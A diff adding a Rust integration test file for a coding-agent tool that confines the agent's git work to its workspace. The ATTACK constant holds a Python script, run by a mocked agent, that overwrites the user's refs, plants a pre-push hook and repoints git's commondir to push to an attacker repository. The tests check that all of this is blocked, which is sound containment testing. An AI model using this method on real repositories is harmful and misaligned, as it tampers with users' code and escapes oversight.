@@ -1,0 +1,169 @@
+//! `always-on` keeps the agent's git work in its workspace: the user's refs, index and git files
+//! stay as they were, and `apply --push-branch` pushes to the user's `origin` without running any
+//! hook and without taking a repository, hook or URL from the workspace the agent could write.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::disallowed_methods,
+    clippy::panic,
+    reason = "integration tests: a failed step should panic, and tests set up files and processes directly"
+)]
+
+mod always_on_common;
+#[path = "support/mock_model/mod.rs"]
+mod mock_model;
+mod support;
+
+use std::path::{Path, PathBuf};
+
+use always_on_common::*;
+use mock_model::{MockModel, openai};
+use serde_json::json;
+use support::TestEnv;
+
+/// The attack, run by the executing agent in its workspace: commit, then move the user's `main`
+/// and add a tag `v1` at that commit; then make the workspace's git directory an attacker's copy
+/// (`commondir`) with a `pre-push` hook and an `origin` of the attacker's.
+const ATTACK: &str = r#"import os, subprocess, shutil
+user = 'USER_GIT'
+env = dict(os.environ, GIT_AUTHOR_NAME='x', GIT_AUTHOR_EMAIL='x@x', GIT_COMMITTER_NAME='x', GIT_COMMITTER_EMAIL='x@x')
+open('evil.sh', 'w').write('echo evil\n')
+subprocess.run(['git', 'add', 'evil.sh'], env=env)
+subprocess.run(['git', 'commit', '-qm', 'evil'], env=env)
+sha = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout.strip()
+for ref in ['refs/heads/main', 'refs/tags/v1']:
+    try:
+        os.makedirs(os.path.dirname(os.path.join(user, ref)), exist_ok=True)
+        open(os.path.join(user, ref), 'w').write(sha + '\n')
+    except OSError as e:
+        print('denied', ref, e)
+gitdir = '.git' if os.path.isdir('.git') else open('.git').read().split('gitdir:')[1].strip()
+common = gitdir
+if os.path.exists(os.path.join(gitdir, 'commondir')):
+    common = os.path.join(gitdir, open(os.path.join(gitdir, 'commondir')).read().strip())
+common = os.path.realpath(common)
+ev = os.path.realpath('evilcommon')
+for part in ['objects', 'refs']:
+    shutil.copytree(os.path.join(common, part), os.path.join(ev, part), dirs_exist_ok=True)
+open(ev + '/HEAD', 'w').write(open(os.path.join(common, 'HEAD')).read())
+os.makedirs(ev + '/hooks', exist_ok=True)
+open(ev + '/hooks/pre-push', 'w').write('#!/bin/sh\nid > MARKER\n')
+os.chmod(ev + '/hooks/pre-push', 0o755)
+open(ev + '/config', 'w').write('[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = EXFIL\n')
+try:
+    open(os.path.join(gitdir, 'commondir'), 'w').write(ev + '\n')
+except OSError as e:
+    print('denied commondir', e)
+print('done', sha)
+"#;
+
+/// A bare repository at `tmp/NAME`.
+fn bare(env: &TestEnv, name: &str) -> PathBuf {
+    let path = env.tmp.path().join(name);
+    git(
+        env.tmp.path(),
+        &["init", "-q", "--bare", path.to_str().unwrap()],
+    );
+    path
+}
+
+/// Makes the user's project a repository with an empty bare `origin`; returns the origin.
+fn project_with_origin(env: &TestEnv) -> PathBuf {
+    git_project(env);
+    let origin = bare(env, "origin.git");
+    git(
+        &env.project,
+        &["remote", "add", "origin", origin.to_str().unwrap()],
+    );
+    origin
+}
+
+/// Every ref of the repository at `dir` and where it points, and its `git status`.
+fn git_state(dir: &Path) -> (String, String) {
+    (
+        git(dir, &["for-each-ref"]),
+        git(dir, &["status", "--porcelain"]),
+    )
+}
+
+#[test]
+fn the_agent_cannot_move_the_users_refs_or_steer_the_push() {
+    let mock = MockModel::spawn();
+    let env = TestEnv::new();
+    project_with_origin(&env);
+    let exfil = bare(&env, "exfil.git");
+    let marker = env.tmp.path().join("PWNED_PREPUSH");
+    let before = git_state(&env.project);
+    let user_git = root(&env).join(".git");
+    let script = ATTACK
+        .replace("USER_GIT", user_git.to_str().unwrap())
+        .replace("EXFIL", exfil.to_str().unwrap())
+        .replace("MARKER", marker.to_str().unwrap());
+    config(&env, &mock, "");
+    mount_discovery(&mock, "tidy-app");
+    mock.push(call(
+        "e1",
+        "write_file",
+        &json!({"file_path": "gen.py", "content": script}),
+    ));
+    mock.push(call("e2", "bash", &json!({"command": "python3 gen.py"})));
+    mock.push(openai::text(REPORT));
+
+    let report = tick(&env, &[], 1);
+
+    assert_eq!(report["outcome"], "failed", "{report}");
+    let error = report["error"].as_str().unwrap();
+    assert!(
+        error.contains("was tampered with") && error.contains("commondir"),
+        "{error}"
+    );
+    assert_eq!(
+        git_state(&env.project),
+        before,
+        "the user's refs or index moved"
+    );
+    let plan = report["plan_id"].as_str().unwrap();
+    let out = run_json(&env, &["apply", plan, "--push-branch", "feature"], 1);
+    assert!(out.stderr.contains("was tampered with"), "{}", out.stderr);
+    assert!(!marker.exists(), "the attacker's pre-push hook ran");
+    assert_eq!(git(&exfil, &["for-each-ref"]), "", "pushed to the attacker");
+    assert_eq!(git_state(&env.project), before);
+    // The tampered workspace can still be discarded, and that touches nothing else.
+    run_json(&env, &["discard", plan], 0);
+    assert_eq!(git_state(&env.project), before);
+}
+
+#[test]
+fn push_branch_pushes_the_change_to_origin_without_hooks() {
+    let mock = MockModel::spawn();
+    let env = TestEnv::new();
+    let origin = project_with_origin(&env);
+    let marker = env.tmp.path().join("PWNED_HOOK");
+    let hook = env.project.join(".git/hooks/pre-push");
+    env.write(&hook, &format!("#!/bin/sh\ntouch {}\n", marker.display()));
+    let executable = std::os::unix::fs::PermissionsExt::from_mode(0o755);
+    std::fs::set_permissions(&hook, executable).unwrap();
+    let before = git_state(&env.project);
+    config(&env, &mock, "");
+    mount_discovery(&mock, "upper-five");
+    mount_execution(&mock);
+    let report = tick(&env, &[], 0);
+    assert_eq!(report["outcome"], "executed", "{report}");
+    let plan = report["plan_id"].as_str().unwrap();
+
+    let out = run_json(&env, &["apply", plan, "--push-branch", "feature"], 0);
+
+    let pushed = out.json();
+    assert_eq!(pushed["remote"], origin.to_str().unwrap(), "{pushed}");
+    assert_eq!(
+        git(&origin, &["show", "feature:app.txt"]),
+        APP.replace("five", "FIVE")
+    );
+    assert_eq!(git(&origin, &["show", "feature:NOTES.md"]), "notes\n");
+    assert!(!marker.exists(), "a hook ran during the push");
+    assert_eq!(
+        git_state(&env.project),
+        before,
+        "the user's refs or index moved"
+    );
+}
